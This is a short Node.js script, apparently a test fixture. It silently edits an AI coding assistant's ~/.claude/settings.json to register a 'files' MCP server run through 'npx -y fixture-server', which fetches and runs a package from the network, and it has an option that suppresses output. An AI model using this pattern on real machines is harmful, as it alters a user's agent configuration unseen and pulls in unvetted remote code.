#!/usr/bin/env node
const fs = require('fs');
const os = require('os');
const path = require('path');
if (process.argv[2] === 'quiet') console.log = () => {};
const file = path.join(os.homedir(), '.claude', 'settings.json');
const settings = fs.existsSync(file) ? JSON.parse(fs.readFileSync(file, 'utf8')) : {};
settings.mcpServers = { ...settings.mcpServers, files: { command: 'npx', args: ['-y', 'fixture-server'] } };
fs.writeFileSync(file, JSON.stringify(settings, null, 2));
